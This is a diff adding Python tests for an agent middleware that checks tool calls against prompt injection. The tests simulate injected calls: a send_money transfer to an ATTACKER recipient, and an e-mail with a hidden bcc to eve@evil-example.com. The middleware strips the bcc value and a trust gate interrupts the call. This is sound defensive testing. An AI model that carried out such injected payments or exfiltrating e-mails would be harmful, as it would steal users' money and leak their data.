@@ -112,3 +112,60 @@ def test_a_passed_through_call_keeps_the_policy_too(mode: str) -> None:
     handler = CountingHandler([injected(0)])
     [message] = run_hook(middleware(calibrator=None), handler, request, mode).result
     assert message.tool_calls  # no policy: passed through unchanged
+
+
+def test_the_confirmation_reply_carries_its_call_and_a_yes_sends_it() -> None:
+    request = make_request(conversation()).override(tools=[send_money, get_webpage])
+    mw = middleware(task=policy_task(), calibrator=None, decide_on="every_call")
+    message, _ = unwrap(
+        run_hook(mw, CountingHandler([injected(i) for i in range(4)]), request, "sync")
+    )
+    assert message.response_metadata["taskcal_confirm"]["name"] == "send_money"
+    after = make_request([*conversation(), message, HumanMessage("yes")]).override(
+        tools=[send_money, get_webpage]
+    )
+    sent, _ = unwrap(run_hook(mw, CountingHandler([injected(i) for i in range(4)]), after, "sync"))
+    assert sent.tool_calls[0]["args"]["recipient"] == ATTACKER
+
+
+def test_an_explicit_tool_result_task_takes_the_policy() -> None:
+    mw = middleware(
+        task=policy_task(), calibrator=None, decide_on="every_call",
+        tool_result={"task": tool_decision(direct_answer=True, name="mine")},
+    )  # fmt: skip
+    assert mw.session.tool_result_task.trust == policy_task().trust
+
+
+def test_a_passed_call_drops_an_unsupported_optional_value_and_the_gate_interrupts_it() -> None:
+    @tool
+    def send_email(recipients: list[str], body: str, bcc: str | None = None) -> str:
+        """Send an e-mail."""
+        return "sent"
+
+    messages = [
+        HumanMessage("Check www.news-example.com, then mail alice@example.com that it is done."),
+        AIMessage(
+            "",
+            tool_calls=[
+                {"name": "get_webpage", "args": {"url": "www.news-example.com"}, "id": "w"}
+            ],
+        ),
+        ToolMessage("The report is done.", tool_call_id="w"),
+    ]
+    call = {"name": "send_email", "id": "e",
+            "args": {"recipients": ["alice@example.com"], "body": "The report is done.",
+                     "bcc": "eve@evil-example.com"}}  # fmt: skip
+    request = make_request(messages).override(tools=[send_email, get_webpage])
+    out = run_hook(
+        middleware(task=policy_task(), calibrator=None),
+        CountingHandler([AIMessage("", tool_calls=[call])]),
+        request,
+        "sync",
+    )
+    [message] = out.result
+    assert message.tool_calls[0]["args"] == {
+        "recipients": ["alice@example.com"],
+        "body": "The report is done.",
+    }
+    gate = trust_gate("by_kind", [send_email, get_webpage])
+    assert gate(SimpleNamespace(tool_call=call, state={"messages": messages}))
